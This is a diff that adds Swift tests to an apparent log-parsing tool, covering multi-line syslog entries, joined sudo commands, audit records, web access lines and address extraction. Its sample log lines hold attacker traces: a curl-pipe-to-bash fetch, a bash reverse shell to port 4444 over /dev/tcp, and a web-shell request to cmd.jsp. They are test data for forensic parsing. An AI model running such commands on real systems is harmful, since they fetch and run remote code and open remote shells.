@@ -203,4 +203,124 @@ private final class WritingSink: ResultSink {
   func finding(_ finding: Finding) {}
   func coverage(_ coverage: Coverage) {}
   func row(view: String, json: [UInt8]) {}
+
+  // MARK: Entries of several lines
+
+  @Test func linesThatGoOnAreJoined() throws {
+    let indent = String(repeating: " ", count: 30)
+    let text = """
+      Nov 25 05:21:12 web-1 app[1]: start
+      \(indent)curl http://203.0.113.9/x | bash
+      \(indent)  line3
+      no line of syslog
+      \(indent)lost
+      Nov 25 05:21:13 web-1 app[1]: end
+
+      """
+    let dump = try EventDump(text, path: "messages", format: SyslogFormat())
+    #expect(HostileInputTests.isWhole(dump, text.utf8.count))
+    #expect(dump.events.map { $0.text("text") } == ["start\ncurl http://203.0.113.9/x | bash\n  line3", "end"])
+    let lines = text.split(separator: "\n")
+    #expect(dump.events.first?.locator.length == UInt64(lines.prefix(3).map { $0.utf8.count + 1 }.reduce(0, +) - 1))
+    #expect(dump.coverages.count { $0.state == .skipped } == 1)
+    // Without an end, an entry stays within its limit.
+    let flood = try EventDump(
+      "Nov 25 05:21:12 web-1 app[1]: a\n" + String(repeating: " bbbbbbbbb\n", count: 10_000), path: "messages",
+      format: SyslogFormat())
+    #expect(flood.events.count == 1 && (flood.events.first?.text("text")?.utf8.count ?? .max) <= 1 << 17)
+  }
+
+  @Test func whatSudoBreaksIsJoined() throws {
+    let first = "Nov 25 05:20:12 web-1 sudo[7]:      ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash -c echo"
+    let more =
+      "Nov 25 05:20:12 web-1 sudo[7]:      ops : (command continued) a ; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+    let dump = try EventDump("\(first)\n\(more)\n", path: "auth.log")
+    #expect(
+      dump.events.map { $0.text("command") } == ["/bin/bash -c echo a ; bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
+    // Of another process, or of another user, it is no part of it.
+    for other in [more.replacing("sudo[7]", with: "sudo[8]"), more.replacing("ops :", with: "eve :")] {
+      let apart = try EventDump("\(first)\n\(other)\n", path: "auth.log")
+      #expect(apart.events.map { $0.text("command") } == ["/bin/bash -c echo", nil])
+    }
+  }
+
+  @Test func linesWithoutAHost() throws {
+    let text = """
+      Nov 25 05:20:12 sshd[392]: Accepted password for root from 203.0.113.9 port 1 ssh2
+      Nov 25 05:20:13 web-1 sshd[392]: x
+      Nov 25 05:20:13 sudo[393]:      ops : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh
+      Nov 25 05:20:13 last message repeated 3 times
+      Nov 25 05:20:13 (none) kernel: Linux version
+      Nov 25 05:20:13 web-1 sshd[392]: y
+      <38>1 - web-1 sshd 392 - - z
+
+      """
+    let dump = try EventDump(text, path: "auth.log")
+    #expect(dump.format == "linux.syslog")
+    #expect(dump.events.map { $0.text("host") } == [nil, "web-1", nil, nil, nil, "web-1", "web-1"])
+    #expect(dump.events.map { $0.text("program") } == ["sshd", "sshd", "sudo", nil, "kernel", "sshd", "sshd"])
+    #expect(dump.events.first?.text("user") == "root" && dump.events.last?.time == nil)
+    for line in ["Nov 25 05:20:12 ERROR: x", "Nov 25 05:20:12 [main]: x", "Nov 25 05:20:12 a[b]: x", "- web-1 sshd: x"]
+    {
+      #expect(line.withView { SyslogLine($0) == nil }, "\(line)")
+    }
+  }
+
+  // MARK: What other logs hand to syslog
+
+  private func event(_ rest: String) throws -> Event {
+    try #require(try EventDump("Nov 25 05:20:12 web-1 \(rest)\n", path: "messages").events.first)
+  }
+
+  @Test func recordsOfTheAuditSystem() throws {
+    let login =
+      "USER_LOGIN pid=1300 uid=0 msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" addr=203.0.113.9 res=failed'"
+    let user = try event("audit[1234]: \(login)")
+    #expect(user.dataType == "linux:audit:entry" && user.text("user") == "root" && user.text("result") == "failed")
+    #expect(user.text("remote_address") == "203.0.113.9" && user.text("executable") == "/usr/sbin/sshd")
+    #expect(user.integer("pid") == 1234 && user["serial"] == nil && user.text("host") == "web-1")
+    let kernel = try event(#"kernel: [  1.5] audit: type=1400 audit(1795584012.123:12): apparmor="DENIED" comm="x""#)
+    #expect(kernel["types"] == .texts(["AVC"]) && kernel.text("command") == "x")
+    let call = try event(#"audispd: type=SYSCALL msg=audit(1795584012.123:456): syscall=59 exe="/usr/bin/bash""#)
+    #expect(call.dataType == "linux:audit:syscall" && call.text("executable") == "/usr/bin/bash")
+    for line in ["audit[1]: backlog limit exceeded", "kernel: audit: initializing netlink subsys (disabled)"] {
+      #expect(try event(line)["types"] == nil)
+    }
+    let journal = try EventDump(
+      #"{"__REALTIME_TIMESTAMP":"1795584012123456","_TRANSPORT":"audit","_COMM":"sshd","MESSAGE":"\#(login.replacing("\"", with: "\\\""))"}"#,
+      path: "journal.json")
+    #expect(journal.events.first?.text("program") == "audit" && journal.events.first?.text("user") == "root")
+  }
+
+  @Test func requestsOfWebServers() throws {
+    let line = #"203.0.113.9 - - [25/Nov/2026:05:20:30 +0000] "GET /cmd.jsp?c=id HTTP/1.1" 200 1 "-" "curl""#
+    for program in ["nginx", "httpd[9]"] {
+      let request = try event("\(program): \(line)")
+      #expect(request.dataType == "web:access:request" && request.text("query") == "c=id")
+      #expect(request.text("remote_address") == "203.0.113.9" && request.time?.description == "2026-11-25T05:20:30Z")
+    }
+    let proxy = try event(
+      #"haproxy[1]: 203.0.113.9:5000 [25/Nov/2026:05:20:12.123] in web/s1 0/0/0/1/1 200 123 - - ---- 1/1/0/0/0 0/0 {a|} "GET /x?y HTTP/1.1""#
+    )
+    #expect(proxy.dataType == "web:access:request" && proxy.text("path") == "/x" && proxy.integer("status") == 200)
+    #expect(proxy.text("remote_address") == "203.0.113.9" && proxy.integer("remote_port") == 5000)
+    #expect(try event("haproxy[1]: Server web/s1 is DOWN").dataType == "linux:syslog:entry")
+    // Any other program may say what it likes.
+    #expect(try event("app: \(line)").dataType == "linux:syslog:entry")
+  }
+
+  @Test func addressesOfServers() throws {
+    for line in [
+      "postfix/smtpd[1]: connect from unknown[203.0.113.9]", "named[1]: client @0x7f 203.0.113.9#5000 (x): query: x",
+      "named[1]: client 203.0.113.9#5000: x",
+      "dovecot: imap-login: Login: user=<a, rip=1.2.3.4>, rip=203.0.113.9, lip=10.0.0.5",
+    ] { #expect(try event(line).text("remote_address") == "203.0.113.9", "\(line)") }
+    #expect(try event("postfix/smtpd[1]: x [y]")["remote_address"] == nil)
+    let packet = try event(
+      "kernel: [1.5] [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=10.0.0.5 PROTO=TCP SPT=5000 DPT=22")
+    #expect(packet.text("src_address") == "203.0.113.9" && packet.text("dst_address") == "10.0.0.5")
+    #expect(packet.integer("src_port") == 5000 && packet.integer("dst_port") == 22 && packet.text("protocol") == "tcp")
+    #expect(packet.text("rule") == "UFW BLOCK" && packet.entities.contains(Entity(.address, "203.0.113.9")))
+    #expect(try event("kernel: x SRC=203.0.113.9")["src_address"] == nil)
+  }
 }
